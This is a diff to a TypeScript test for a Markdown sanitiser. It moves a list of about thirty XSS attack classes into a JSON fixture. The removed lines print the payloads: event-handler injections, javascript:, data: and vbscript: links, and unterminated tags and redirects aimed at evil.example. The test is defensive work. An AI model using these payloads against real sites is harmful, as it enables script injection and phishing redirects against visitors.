@@ -3,52 +3,16 @@
  *
  * The hostile-content corpus through the build's own chain (docs/architecture.md, "Content is data"): every vector
  * of DOMPurify's fixtures, html5sec.org and OWASP's XSS filter evasion cheat sheet (tests/fixtures/hostile/
- * vectors.json, sources named there), and the attack classes the Markdown rule was written against, each as the
- * body an editor could write. renderArticle is what the content check, the CMS and its preview run; the build's
+ * vectors.json, sources named there), and the attack classes the Markdown rule was written against (classes.json),
+ * each as the body an editor could write. renderArticle is what the content check, the CMS and its preview run; the build's
  * lock (sanitised-html.ts) runs sanitiseArticle on the same HTML plus gatsby-remark-images'. Each vector must be
  * refused by name, or reach the page as text or as HTML the allowlist keeps, with nothing that can run.
  */
 import raw from 'hast-util-raw';
 import corpus from '../fixtures/hostile/vectors.json';
+import { classes } from '../fixtures/hostile/classes.json';
 import { renderArticle } from '../../src/gatsby/remark/render-article';
 import { isSafeUrl, RENDERED, sanitiseArticle } from '../../src/lib/content/safe-markdown';
-
-/** The attack classes the rule answers, as Markdown an editor could write (some split across blocks). */
-const CLASSES: Array<[string, string]> = [
-  ['attribute opened in one block, closed in the next', '<p title="a>\n\nnext" onmouseover="alert(1)">x</p>'],
-  ['unterminated script src', 'Text\n\n<script src="https://evil.example/x.js"\n\nMore text'],
-  ['unterminated style', '<style>\n\nbody { display: none }'],
-  ['unterminated textarea', '<textarea>\n\nThe rest of the page'],
-  ['unterminated iframe', '<iframe src="https://evil.example/"\n\nafter'],
-  ['unterminated form', '<form action="https://evil.example/">\n\n[Log in](/)'],
-  ['base', '<base href="https://evil.example/">'],
-  ['body attributes', '<body onload="location=\'https://evil.example/\'">'],
-  ['html attributes', '<html manifest="https://evil.example/">'],
-  ['head', '<head><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>'],
-  ['img hidden in a code span (alt filling)', 'See `<img src=x title="` and `" onerror=alert(1) x="`'],
-  ['img in raw HTML without alt', '<img src="./a.png" title="<img onerror=alert(1)>">'],
-  ['fence language with quotes', '```js" onmouseover="alert(1)\nx\n```'],
-  ['fence language with a tag', '```<img/src/onerror=alert(1)>\nx\n```'],
-  ['fence meta', '```bash {1} " onclick="alert(1)\nls\n```'],
-  ['heading anchor text', '## <img src=x onerror=alert(1)>\n\n### "><script>alert(1)</script>'],
-  [
-    'gadget: globals copy',
-    '<script type="application/json" id="page-globals">{"location":"https://evil.example/"}</script>',
-  ],
-  ['gadget: loader copy', '<script id="app-scripts" data-src=\'["https://evil.example/x.js"]\'></script>'],
-  ['javascript link', '[x](javascript:alert(1))'],
-  ['javascript link, entity-encoded', '[x](&#106;avascript:alert(1))'],
-  ['javascript link with a tab', '[x](java\tscript:alert(1))'],
-  ['javascript autolink', '<javascript:alert(1)>'],
-  ['javascript reference definition', '[x][r]\n\n[r]: javascript:alert(1)'],
-  ['data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
-  ['data: picture', '![x](data:image/svg+xml,<svg onload=alert(1)>)'],
-  ['vbscript link', '[x](vbscript:msgbox(1))'],
-  ['picture title', '![a](./a.png "x\\" onerror=\\"alert(1)")'],
-  ['link title', '[a](/x "y\\" onmouseover=\\"alert(1)")'],
-  ['table cell', '| a |\n| - |\n| <img src=x onerror=alert(1)> |'],
-  ['note', '> [!NOTE]\n> <script>alert(1)</script>'],
-];
 
 const vectors: Array<{ source: string; name: string; markdown: string }> = [
   ...corpus.vectors.map((vector) => ({
@@ -56,7 +20,7 @@ const vectors: Array<{ source: string; name: string; markdown: string }> = [
     name: `${vector.source} ${vector.id}: ${vector.title}`,
     markdown: vector.payload,
   })),
-  ...CLASSES.map(([name, markdown]) => ({ source: 'classes', name, markdown })),
+  ...classes.map(({ name, markdown }) => ({ source: 'classes', name, markdown })),
 ];
 
 interface Hast {
